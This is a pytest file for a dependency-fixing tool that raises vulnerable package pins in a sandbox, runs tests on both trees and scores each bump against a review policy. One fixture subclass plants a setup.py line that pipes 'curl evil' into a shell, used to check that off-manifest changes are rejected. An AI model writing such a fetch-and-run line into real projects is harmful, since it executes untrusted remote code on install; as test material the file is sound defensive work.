"""The dependency fixer through a real session (issue 34, part 2): a Dependabot alert's
package raised in the manifests, the patched tree's own setup (real pip, in bubblewrap,
from a local folder of wheels: the sandbox's setup phase gets it as it would a user's
find-links), the tests on both trees, and the policy's score of the bump.

The project's test checks that the version installed is the one requirements.txt pins:
it passes on the patch only when the patch's tests run with the patch's environment.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from app.fixers.dependency import DependencyFixer
from app.fixers.registry import KNOWN
from app.git import Remote
from app.policy.score import Trigger, score_session
from app.sessions.backends import BwrapSandbox
from app.sessions.pkgconfig import PackageConfig
from app.sessions.sandbox import Mount
from app.sessions.session import SessionRunner
from app.sessions.task import Advisory, SessionSpec, Task
from tests.conftest import cache_at, make_project
from tests.policy_helpers import default_policy, policy_with
from tests.sessions.test_pkgconfig import _wheel

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bubblewrap sessions")

# Passes only where the installed version is the one requirements.txt pins.
CHECK = (
    "import pathlib, pw_vuln\n"
    "pinned = pathlib.Path('requirements.txt').read_text().split('==')[1].split()[0]\n"
    "assert pw_vuln.VERSION == pinned, (pw_vuln.VERSION, pinned)\n"
    "print('pw_vuln', pw_vuln.VERSION)\n"
)
CONFIG = "test: python check.py\n"


def wheels(folder: Path) -> Path:
    folder.mkdir()
    for name, version, requires in (
        ("pw_vuln", "1.0.0", ()),
        ("pw_vuln", "1.0.1", ()),
        ("pw_vuln", "2.0.0", ("pw-extra>=1.0",)),
        ("pw_extra", "1.0", ()),
    ):
        filename, data = _wheel(name, version, requires)
        (folder / filename).write_bytes(data)
    return folder


@pytest.fixture
def runner(tmp_path: Path, empty_environments: Path) -> SessionRunner:
    """Sessions whose setup installs from the local wheels only (no index)."""
    found = wheels(tmp_path / "wheels")
    return SessionRunner(
        fixers=KNOWN,
        cache=cache_at(tmp_path / "cache", empty_environments),
        sandbox=BwrapSandbox(state_dir=tmp_path / "sandbox"),
        packages=PackageConfig(
            env={"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "/wheels"},
            mounts=(Mount(found, "/wheels"),),
        ),
    )


def alert(fixed: str | None, *, ecosystem: str = "pip", manifest: str = "requirements.txt") -> Task:
    advisory = Advisory(
        package="pw-vuln",
        ecosystem=ecosystem,
        manifest=manifest,
        vulnerable_range=f"< {fixed}",
        first_patched=fixed,
        id="GHSA-9wx4-h78v-vm56",
        cve="CVE-2024-35195",
        severity="high",
        url="https://github.com/octo/deps/security/dependabot/1",
        summary="pw-vuln leaks <b>everything</b>",
    )
    return Task(title=f"Bump pw-vuln past < {fixed}", advisory=advisory)


def project(tmp_path: Path, **extra: str) -> Remote:
    files = {
        "requirements.txt": "pw-vuln==1.0.0  # pinned on purpose\n",
        "check.py": CHECK,
        ".github/patchwarden.yml": CONFIG,
        **extra,
    }
    return Remote("octo/deps", str(make_project(tmp_path / "deps", files)))


async def test_a_patch_bump_is_installed_by_the_patch_s_own_setup_and_tested_with_it(
    runner: SessionRunner, tmp_path: Path
) -> None:
    result = await runner.run(
        SessionSpec(remote=project(tmp_path), task=alert("1.0.1"), job_id=1), DependencyFixer()
    )
    assert result.status == "patched", (result.error, [s.output[-500:] for s in result.steps])
    assert result.fix is not None
    assert result.fix.bump is not None
    bump = result.fix.bump
    assert (bump.old, bump.new, bump.size, bump.setup) == ("1.0.0", "1.0.1", "patch", True)
    assert bump.upgraded == ["pw-vuln 1.0.0 → 1.0.1"]
    assert bump.installed == []
    assert "-pw-vuln==1.0.0  # pinned on purpose\n+pw-vuln==1.0.1  # pinned on purpose" in (
        result.diff.unified
    )
    # Two setups (base and patch), and the patch's tests passed with the new version:
    # with the base's environment the check would have failed (1.0.0 != 1.0.1).
    setups = [(s.tree, s.argv[-1]) for s in result.steps if s.phase == "setup"]
    assert ("base", "requirements.txt") in setups
    assert ("head", "requirements.txt") in setups
    assert result.tests is not None
    assert result.tests.head is not None
    assert result.tests.head.ok
    [head_tests] = [s for s in result.steps if s.phase == "verify" and s.tree == "head"]
    assert "pw_vuln 1.0.1" in head_tests.output
    assert result.fix.commit_message is not None
    assert result.fix.commit_message.startswith("Bump pw-vuln to 1.0.1 (GHSA-9wx4-h78v-vm56)")

    policy = default_policy()
    score = score_session(result, policy, trigger=Trigger("alert", alert="dependabot"))
    factors = {c.factor: c for c in score.contributions}
    assert factors["fixer"].value == "dependency"
    assert "security_update" not in factors  # a patch bump adds no points by default
    # The shipped policy: a maintainer approves every Dependabot fix.
    [mode] = [r for r in score.rules if r.rule == "alert_mode"]
    assert mode.reason == (
        "a maintainer approves every Dependabot fix (`alerts.dependabot.mode`: review)"
    )
    assert score.decision == "review"


async def test_a_major_bump_waits_and_names_what_it_installs_anew(
    runner: SessionRunner, tmp_path: Path
) -> None:
    result = await runner.run(
        SessionSpec(remote=project(tmp_path), task=alert("2.0.0"), job_id=2), DependencyFixer()
    )
    assert result.status == "patched", result.error
    assert result.fix is not None
    assert result.fix.bump is not None
    assert result.fix.bump.size == "major"
    assert result.fix.bump.installed == ["pw-extra 1.0"]
    policy = policy_with("autonomy: automerge\nalerts:\n  dependabot:\n    mode: within-autonomy\n")
    score = score_session(result, policy, trigger=Trigger("alert", alert="dependabot"))
    factors = {c.factor: c for c in score.contributions}
    assert factors["security_update"].points == 15
    assert factors["security_update"].value == "major: pw-vuln 1.0.0 → 2.0.0"
    assert factors["new_transitive_dependencies"].points == 5
    assert factors["advisory_severity"].points == -2  # a high advisory: a credit
    assert "pw-extra 1.0" in factors["new_transitive_dependencies"].reason
    [held] = [r for r in score.rules if r.rule == "security_update"]
    assert held.decision == "review"
    assert "`alerts.dependabot.merge_up_to`: patch" in held.reason
    assert score.decision == "review"


async def test_a_fixed_version_that_does_not_install_publishes_nothing(
    runner: SessionRunner, tmp_path: Path
) -> None:
    result = await runner.run(
        SessionSpec(remote=project(tmp_path), task=alert("1.0.7"), job_id=3), DependencyFixer()
    )
    assert result.status == "failed"
    assert result.error is not None
    assert result.error.startswith("pw-vuln 1.0.7 does not install with the project's setup")
    assert "setup failed" in result.error


_HASH = "    --hash=sha256:" + "a" * 64 + "\n"
PIP_TOOLS_LOCK = (
    "#\n# This file is autogenerated by pip-compile with Python 3.11\n"
    "#    by the following command:\n#\n#    pip-compile --generate-hashes\n#\n"
    "pw-vuln==1.0.0 \\\n" + _HASH
)
UV_LOCK_ODD_FLAG = (
    "# This file was autogenerated by uv via the following command:\n"
    "#    uv pip compile requirements.in --generate-hashes --index-url http://elsewhere/ "
    "-o requirements-lock.txt\n"
    "pw-vuln==1.0.0 \\\n" + _HASH
)


@pytest.mark.parametrize(
    ("task", "extra", "says"),
    [
        (
            alert("1.0.1"),
            {"poetry.lock": '[[package]]\nname = "pw-vuln"\nversion = "1.0.0"\n'},
            "pw-vuln is locked too, and `poetry.lock` is regenerated with `poetry lock`, "
            "which Patchwarden does not run",
        ),
        (
            alert("1.0.1"),
            {"requirements-lock.txt": PIP_TOOLS_LOCK},
            "`requirements-lock.txt` was compiled by pip-compile (pip-tools), which "
            "Patchwarden does not run",
        ),
        (
            alert("1.0.1"),
            {"requirements-lock.txt": UV_LOCK_ODD_FLAG, "requirements.in": "pw-vuln\n"},
            "`requirements-lock.txt`'s header command has `--index-url`, which Patchwarden "
            "does not pass on",
        ),
        (alert("1.0.1", ecosystem="rubygems"), {}, "pw-vuln is a rubygems package: the dependency"),
        (
            # npm: a range it cannot read is said, and nothing changes
            alert("1.0.1", ecosystem="npm", manifest="package.json"),
            {"package.json": '{"dependencies": {"pw-vuln": "1.x"}}\n'},
            "pw-vuln cannot be raised to 1.0.1 everywhere (`package.json:1` `dependencies: 1.x`",
        ),
        (alert(None), {}, "no version of pw-vuln fixes GHSA-9wx4-h78v-vm56 yet"),
        (
            alert("1.0.1"),
            {"requirements-dev.txt": "pw-vuln>=0.9,<1.0.1\n"},
            "pw-vuln cannot be raised to 1.0.1 everywhere (`requirements-dev.txt:1`",
        ),
        (
            # GitHub reads a file the fixer does not: raising requirements.txt alone
            # would leave the alert open.
            alert("1.0.1", manifest="Pipfile"),
            {"Pipfile": '[packages]\npw-vuln = "==1.0.0"\n'},
            "the alert names `Pipfile`, which this fixer does not raise",
        ),
    ],
    ids=[
        "poetry-lock",
        "pip-tools",
        "uv-compile-index",
        "rubygems",
        "npm-range",
        "no-fix-yet",
        "capped",
        "manifest-not-raised",
    ],
)
async def test_what_it_cannot_bump_it_says_and_changes_nothing(
    runner: SessionRunner, tmp_path: Path, task: Task, extra: dict[str, str], says: str
) -> None:
    remote = project(tmp_path, **extra)
    result = await runner.run(SessionSpec(remote=remote, task=task, job_id=4), DependencyFixer())
    assert result.status == "failed"
    assert result.head_sha is None  # nothing committed
    assert result.fix is not None
    assert result.fix.reason is not None
    assert says in result.fix.reason, result.fix.reason
    assert result.fix.final


class _AlsoWrites(DependencyFixer):
    """A bump that also changes a file it did not name (no fixer should)."""

    async def fix(self, task: Task, workspace: Any, budget: Any) -> Any:
        outcome = await super().fix(task, workspace, budget)
        (workspace.tree / "setup.py").write_text("import os; os.system('curl evil | sh')\n")
        return outcome


async def test_the_patch_s_networked_setup_runs_only_on_the_manifests_the_fixer_named(
    runner: SessionRunner, tmp_path: Path
) -> None:
    result = await runner.run(
        SessionSpec(remote=project(tmp_path), task=alert("1.0.1"), job_id=5), _AlsoWrites()
    )
    assert result.status == "failed"
    assert result.error == "a security update may change its manifests only, not ['setup.py']"
    assert not any(s.phase == "setup" and s.tree == "head" for s in result.steps)


async def test_the_patch_s_tests_see_the_files_its_own_setup_generated(
    runner: SessionRunner, tmp_path: Path
) -> None:
    # Setup leaves a file made from the requirements (as an egg-info's requires.txt is):
    # the patch's tests must see the patch's, not the base's.
    config = (
        "setup:\n  - pip install -r requirements.txt\n  - cp requirements.txt pinned.txt\n"
        "test: python check.py\n"
    )
    check = (
        "import pathlib\n"
        "assert pathlib.Path('pinned.txt').read_text() == "
        "pathlib.Path('requirements.txt').read_text()\n"
    )
    remote = project(tmp_path, **{".github/patchwarden.yml": config, "check.py": check})
    result = await runner.run(
        SessionSpec(remote=remote, task=alert("1.0.1"), job_id=6), DependencyFixer()
    )
    assert result.status == "patched", result.error
    assert result.tests is not None
    assert result.tests.head is not None
    assert result.tests.head.ok, [s.output[-300:] for s in result.steps if s.tree == "head"]
    assert [f.path for f in result.diff.files] == ["requirements.txt"]  # pinned.txt is not


async def test_a_lock_its_tool_cannot_regenerate_publishes_nothing(
    runner: SessionRunner, tmp_path: Path
) -> None:
    # uv runs (setup phase, network) but cannot lock this tree: the manifests' raise is
    # not committed alone, and the session says why.
    remote = project(
        tmp_path, **{"uv.lock": 'version = 1\n\n[[package]]\nname = "pw-vuln"\nversion = "1.0.0"\n'}
    )
    result = await runner.run(
        SessionSpec(remote=remote, task=alert("1.0.1"), job_id=7), DependencyFixer()
    )
    assert result.status == "failed"
    assert result.head_sha is None
    assert result.error is not None
    assert result.error.startswith(
        "the lock was not regenerated, so nothing was published: regenerating `uv.lock` "
        "with `uv lock --upgrade-package pw-vuln==1.0.1` exited"
    ), result.error
    [lock] = [s for s in result.steps if s.name == "lock"]
    assert (lock.phase, lock.tree) == ("setup", "head")
    assert lock.exit_code != 0
